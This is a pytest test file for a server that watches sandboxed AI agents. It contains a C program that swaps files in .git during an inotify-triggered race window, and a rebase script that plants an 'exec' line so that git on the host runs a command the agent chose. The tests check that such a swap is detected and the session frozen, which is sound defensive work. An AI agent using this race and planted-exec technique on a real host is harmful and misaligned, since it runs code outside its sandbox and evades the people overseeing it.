"""Files that an agent exchanges for the moment in which git on the host reads or writes them.

The host judges whether each one is an attack: git there runs what was planted, or writes elsewhere. Nothing prevents
that in time. What is promised is that the session is frozen and the person is told.
"""

from __future__ import annotations

import contextlib
import os
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest
from agent_program import TRUSTING, compiled, lay
from test_protection_watch import await_watched, protection

from tests.programs import DEADLINE, NO_CHECKPOINTS, git, wait_until

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root on the host")

# Exchanges two names for MS milliseconds whenever NAME is opened or made in a folder: SWAP ONE OTHER MS FOLDER NAME.
# Where there is no ONE, OTHER gets its name.
SWAP = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

int main(int count, char **words)
{
    int events = inotify_init();
    inotify_add_watch(events, words[4], IN_CREATE | IN_OPEN);
    close(open("ready", O_CREAT | O_WRONLY, 0600));
    puts("ready");
    fflush(stdout);
    char buffer[65536];
    for (;;) {
        ssize_t length = read(events, buffer, sizeof buffer);
        for (char *at = buffer; at < buffer + length;) {
            struct inotify_event *event = (struct inotify_event *)at;
            if (event->len && !strcmp(event->name, words[5])) {
                int moved = renameat2(AT_FDCWD, words[1], AT_FDCWD, words[2], RENAME_EXCHANGE);
                if (moved)
                    rename(words[2], words[1]);
                usleep(1000 * atoi(words[3]));
                if (moved)
                    rename(words[1], words[2]);
                else
                    renameat2(AT_FDCWD, words[1], AT_FDCWD, words[2], RENAME_EXCHANGE);
            }
            at += sizeof *event + event->len;
        }
    }
}
"""

REBASE = r"""
git -c user.name=a -c user.email=a@b -c sequence.editor='sed -i s/^pick/edit/' rebase -q -i HEAD~1 2>&1
printf 'break\nbreak\nbreak\n' >.git/rebase-merge/git-rebase-todo
echo 'exec touch EVIL' >.git/rebase-merge/zz
"""
# What the agent plants, the two names that it exchanges, the name in .git that it waits for, git's words.
ATTACKS = {
    "the list of a rebase": (
        REBASE, ".git/rebase-merge/git-rebase-todo", ".git/rebase-merge/zz", "HEAD", ["rebase", "--continue"],
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def swap(tmp_path_factory) -> Path:
    return compiled(tmp_path_factory.mktemp("swap"), SWAP)


@pytest.fixture
def repository(workspace, swap) -> Path:
    """A workspace with two commits, in which the program of the agent lies."""
    return lay(workspace, swap, "swap")


def attack_of(name: str, evil: Path) -> str:
    """The script of an attack: plant, and exchange what git reads for some milliseconds."""
    plant, one, other, waits_for, _ = ATTACKS[name]
    program = shlex.join(["./swap", one, other, "20", ".git", waits_for])
    return f"{plant.replace('EVIL', str(evil))}\nexec {program}"


def act(repository: Path, name: str) -> None:
    """What the person does; that git fails is none of the test."""
    words = ["git", "-C", repository, *ATTACKS[name][-1]]
    environment = {**os.environ, **TRUSTING, "GIT_EDITOR": "true"}
    subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, check=False, env=environment, timeout=DEADLINE)


@pytest.mark.parametrize("name", ATTACKS)
def test_each_attack_is_one_where_nobody_watches(repository, tmp_path, name):
    evil = tmp_path / "evil"

    def succeeds() -> bool:
        """Whether the program gets its turn before git has read the file."""
        for path in ("rebase-merge", "hooks", "objects/zz"):
            shutil.rmtree(repository / ".git" / path, ignore_errors=True)
            if os.path.lexists(repository / ".git" / path):
                os.unlink(repository / ".git" / path)
        (repository / ".git/hooks").mkdir()
        git(repository, "reset", "-q", "--hard")
        script = attack_of(name, evil)
        environment = {**os.environ, **TRUSTING}
        with subprocess.Popen(
            ["sh", "-ec", script], cwd=repository, env=environment, stdout=subprocess.PIPE, text=True
        ) as attack:
            assert attack.stdout is not None
            assert "ready\n" in iter(attack.stdout.readline, "")
            act(repository, name)
            attack.kill()
        return evil.exists()

    wait_until(succeeds, "git to do what was planted")


@pytest.fixture
def server(start_server):
    return start_server(config=NO_CHECKPOINTS)


def await_renames_watched(server, folder: Path) -> None:
    """Wait until the server watches a folder for renames: the look that finds a new one takes its time."""
    inode = f" ino:{folder.stat().st_ino:x} "

    def is_watched() -> bool:
        infos = Path(f"/proc/{server.process.pid}/fdinfo").iterdir()
        with contextlib.suppress(FileNotFoundError):  # a descriptor that was closed meanwhile
            return any(inode in info.read_text() for info in infos)
        return False

    wait_until(is_watched, "renames to be watched")


def is_told(server, session, repository: Path, name: str) -> bool:
    """Whether the exchanged file is told; if not, the agent sees again what it takes for the begin of the person's git.

    That git itself may be over before the program of the agent has its turn.
    """
    found = protection(server, session)
    if f"{repository}/{ATTACKS[name][1]}" in {one["path"] for one in found["changes"]}:
        return bool(found["level"] == "broken")
    (repository / ".git" / ATTACKS[name][3]).read_bytes()
    return False


@pytest.mark.parametrize("name", ATTACKS)
def test_an_exchange_for_some_milliseconds_freezes_the_session(bed, server, repository, name):
    session = server.create(repository)
    await_watched(server, session)
    evil = repository.parent.parent / "evil"
    bed.attack(session["id"], f"cd /workspace; export HOME=/home/code\n{attack_of(name, evil)}")
    wait_until((repository / "ready").exists, "the agent to lie in wait")
    for folder in (repository / ".git/refs/heads", (repository / ATTACKS[name][1]).parent):
        await_renames_watched(server, folder)
    wait_until(lambda: is_told(server, session, repository, name), "the file to be told")
    evil.unlink(missing_ok=True)
    act(repository, name)
    assert not evil.exists()
